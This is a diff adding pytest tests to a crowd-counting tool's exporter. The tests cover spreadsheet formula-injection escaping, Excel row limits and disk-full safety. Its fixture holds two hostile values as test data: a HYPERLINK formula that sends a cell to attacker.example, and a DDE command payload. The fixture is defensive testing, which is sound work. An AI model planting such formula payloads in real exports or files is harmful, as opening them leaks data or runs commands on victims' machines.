@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+from datetime import timedelta
 from pathlib import Path
 
 import openpyxl
@@ -10,8 +11,13 @@ import pandas as pd
 import pyarrow.parquet as pq
 import pytest
 
+from conftest import fill
+from crowdcount.datatypes import CounterInfo, CountEvent, SourceRecord
+from crowdcount.errors import CrowdcountError
+from crowdcount.export import EXCEL_ROWS, write_table
+from crowdcount.formats import Format
 from crowdcount.store import EventStore
-from helpers import crowdcount
+from helpers import START, crowdcount
 
 FORMATS = ["csv", "xlsx", "parquet", "json"]
 
@@ -132,3 +138,56 @@ def test_group_totals_sum_the_lines_of_the_group(tmp_path, processed_db, expecte
     table = pd.read_csv(out)
     assert table["group"].tolist() == ["walkways"]
     assert table["in"].sum() == expected[("lamppost", "in")] + expected[("west", "in")]
+
+
+HOSTILE_GROUP = '=HYPERLINK("http://attacker.example/?"&A1,"totals")'
+HOSTILE_FILE = "=cmd|' -C calc'!A0.avi"  # a file name cannot hold a /
+
+
+@pytest.fixture
+def hostile_db(tmp_path: Path) -> Path:
+    """A real store whose group and recording names are spreadsheet formulas."""
+    db = tmp_path / "hostile.db"
+    store = EventStore(db)
+    end = START + timedelta(minutes=2)
+    store.replace_source(
+        SourceRecord("gate", HOSTILE_FILE, "done", START, end, 10.0, 1200, 1, "m"),
+        [CountEvent("gate", "door", "cross", "in", 1, START + timedelta(seconds=30), HOSTILE_FILE, 300)],
+    )
+    store.set_counters("gate", [CounterInfo("gate", "door", "line", HOSTILE_GROUP)])
+    return db
+
+
+@pytest.mark.parametrize("what", ["events", "groups"])
+def test_text_a_spreadsheet_would_run_is_exported_as_text(tmp_path, hostile_db, what):
+    csv = tmp_path / f"{what}.csv"
+    export(hostile_db, csv, "--what", what, "--lang", "en")
+    text = csv.read_text(encoding="utf-8-sig")
+    hostile = HOSTILE_FILE if what == "events" else HOSTILE_GROUP
+    assert "'" + hostile.split('"')[0] in text  # OWASP: a leading apostrophe keeps it text
+    assert not any(cell.startswith("=") for line in text.splitlines() for cell in line.split(","))
+    book_path = tmp_path / f"{what}.xlsx"
+    export(hostile_db, book_path, "--what", what, "--format", "xlsx")
+    cells = [cell for sheet in openpyxl.load_workbook(book_path) for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]  # values, never formulas
+    assert hostile in {cell.value for cell in cells}  # the name itself, as text
+
+
+def test_a_table_too_long_for_excel_is_refused_before_anything_is_written(tmp_path):
+    out = tmp_path / "year.xlsx"
+    with pytest.raises(CrowdcountError, match="more than Excel's 1,048,575; export CSV or Parquet"):
+        write_table(pd.DataFrame({"camera": ["gate"] * EXCEL_ROWS, "in": 1}), out, Format.xlsx)
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_an_export_that_fills_the_disk_keeps_the_previous_file_whole(processed_db, small_disk):
+    out = small_disk / "counts.csv"
+    export(processed_db, out, "--what", "intervals", "--interval", "day")
+    before = out.read_bytes()
+    fill(small_disk, leave=0)
+    result = crowdcount("export", "--db", processed_db, "--out", out, "--what", "events")
+    assert result.returncode == 2
+    assert result.stderr.strip().startswith(f"crowdcount: error: cannot write {out}: No space left on device")
+    assert len(result.stderr.strip().splitlines()) == 1
+    assert out.read_bytes() == before  # the previous export, whole
+    assert sorted(p.name for p in small_disk.iterdir()) == ["counts.csv", "filler"]  # nothing partial
